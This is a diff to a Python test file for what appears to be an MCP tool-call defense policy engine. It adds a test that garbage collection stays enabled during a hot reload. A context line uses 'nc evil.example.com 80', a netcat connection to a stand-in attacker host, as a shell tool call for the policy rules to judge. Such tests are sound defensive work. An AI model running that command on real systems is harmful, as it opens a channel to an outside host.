@@ -133,3 +133,14 @@ def test_rules_that_need_an_effect_are_skipped_without_it(tmp_path: Path) -> Non
     assert d.action.value == "deny" and d.rule == "rule_error"  # reads the missing field
     shell = ToolCall("shell", "run_command", {"command": "nc evil.example.com 80"})
     assert t.decide(shell).rule == "s"
+
+
+def test_gc_pause_steps_aside_during_a_hot_reload() -> None:
+    """Inside `compiling()` young collections keep running (a paused collector would leave the
+    whole new table for one long young collection at the end)."""
+    from mcp_defense.policy.background import compiling
+
+    with compiling():
+        with gc_paused():
+            assert gc.isenabled()
+    assert gc.isenabled()
